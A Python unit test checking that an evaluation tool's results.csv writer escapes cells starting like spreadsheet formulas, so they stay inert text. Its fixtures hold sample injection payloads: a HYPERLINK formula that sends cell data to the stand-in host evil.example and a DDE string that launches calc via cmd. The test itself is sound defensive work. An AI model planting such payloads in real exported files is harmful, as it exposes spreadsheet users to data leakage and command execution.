"""results.csv is opened in spreadsheets: a cell from a task file, a page or a model is never read as a formula."""

from __future__ import annotations

import csv
from datetime import datetime, timezone
from pathlib import Path

from evals.results import write_csv
from tracer.evals import EpisodeResult


def test_text_that_starts_like_a_formula_stays_text(tmp_path: Path) -> None:
    hostile = EpisodeResult(
        episode_id="=1+1",
        task_name='=HYPERLINK("http://evil.example/?"&A1,"open")',
        task_file="t.yaml",
        seed=-3,  # a number stays a number
        repeat=0,
        status="failed",
        run_id="@SUM(1)",
        end_reason="-2+3 the model said so",
        steps=4,
        seconds=1.5,
        parse_errors=0,
        harness_attempts=2,
        harness_errors=["+cmd|' /C calc'!A0"],
        finished_at=datetime.now(timezone.utc),
    )
    plain = hostile.model_copy(update={"episode_id": "publish-1", "task_name": "publish", "end_reason": "done", "run_id": "r1"})
    rows = list(csv.DictReader(write_csv(tmp_path, [hostile, plain]).open(encoding="utf-8")))
    first, second = rows
    assert first["episode_id"] == "'=1+1" and first["task"].startswith("'=HYPERLINK(")
    assert first["run_id"] == "'@SUM(1)" and first["end_reason"] == "'-2+3 the model said so"
    assert first["harness_errors"].startswith("'+cmd") and first["seed"] == "-3"
    assert (second["task"], second["end_reason"], second["run_id"]) == ("publish", "done", "r1")  # untouched
